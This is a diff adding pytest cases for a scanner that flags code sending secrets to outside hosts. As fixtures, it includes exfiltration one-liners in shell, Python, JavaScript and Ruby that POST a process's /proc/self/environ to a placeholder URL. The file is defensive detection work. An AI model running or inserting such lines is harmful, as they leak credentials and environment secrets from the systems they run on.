@@ -274,6 +274,33 @@ def test_python_that_sends_a_key_to_its_own_service_is_left_alone(way: str) -> N
         assert worst(python.check(text).hits) == "info", text
 
 
+@pytest.mark.parametrize("way", WAYS["shell"])
+def test_shell_that_sends_a_secret_is_dangerous(way: str) -> None:
+    for name in NAMES:
+        text = re.sub(r"\bN\b", name, re.sub(r"\bU\b", URL, WAYS["shell"][way]))
+        assert worst(shell.check(text).hits) == "critical", text
+    text = re.sub(r"\bN\b", "OPENAI_API_KEY", re.sub(r"\bU\b", "https://api.openai.com/v1", WAYS["shell"][way]))
+    assert worst(shell.check(text).hits) == "info", text
+
+
+@pytest.mark.parametrize(
+    ("check", "text"),
+    [
+        (shell.check, "curl -d @/proc/self/environ PLACE\n"),
+        (shell.check, 'curl -d "$(< /proc/$$/environ)" PLACE\n'),
+        (python.check, "import requests\nrequests.post('PLACE', data=open('/proc/self/environ').read())\n"),
+        (
+            javascript.check,
+            "fetch('PLACE', { method: 'POST', body: require('fs').readFileSync('/proc/self/environ') })\n",
+        ),
+        (code.check, "require 'net/http'\nNet::HTTP.post(URI('PLACE'), File.read('/proc/self/environ'))\n"),
+    ],
+)
+def test_the_environment_of_a_process_is_a_file(check: Callable[[str], Seen], text: str) -> None:
+    assert worst(check(text.replace("PLACE", URL)).hits) == "critical"
+    assert worst(check(text.replace("PLACE", "http://127.0.0.1:8080/")).hits) != "critical"
+
+
 @pytest.mark.parametrize("way", JAVASCRIPT)
 def test_javascript_that_sends_a_secret_is_dangerous(way: str) -> None:
     for name in NAMES if way != "a header" else NAMES[:4]:
